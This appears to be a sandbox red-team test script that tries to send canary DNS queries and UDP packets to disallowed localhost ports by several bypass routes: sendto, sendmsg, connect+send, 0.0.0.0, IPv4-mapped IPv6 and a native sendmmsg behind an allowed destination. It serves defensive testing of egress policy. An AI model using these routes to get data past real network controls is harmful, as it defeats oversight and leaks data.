"""Exfiltration over UDP port 53 to a resolver the policy does not allow
(sendto, sendmsg with an address, sendmmsg behind an allowed message,
connect + send), and to a plain UDP canary (issue)."""
import socket
from rtlib import CTX, done, native, try_

dns, udp = ("127.0.0.1", CTX["dns_port"]), ("127.0.0.1", CTX["udp"])
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0aRT-EXFIL-1\x07example\x00\x00\x01\x00\x01"
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try_("sendto dns", s.sendto, q, dns)
try_("sendto udp", s.sendto, b"RT-UDP", udp)
try_("sendmsg", s.sendmsg, [q], [], 0, dns)
try_("sendto 0.0.0.0", s.sendto, q, ("0.0.0.0", dns[1]))
try_("sendto mapped", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(q, ("::ffff:127.0.0.1", dns[1])))
try_("connect+send", lambda: (s.connect(dns), s.send(q)))
t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try_("connect+send udp", lambda: (t.connect(udp), t.send(b"RT-UDP2")))
lib = native()
lib.rt_sendmmsg(CTX["allowed_udp"], dns[1])
lib.rt_sendmmsg(CTX["allowed_udp"], udp[1])
done()
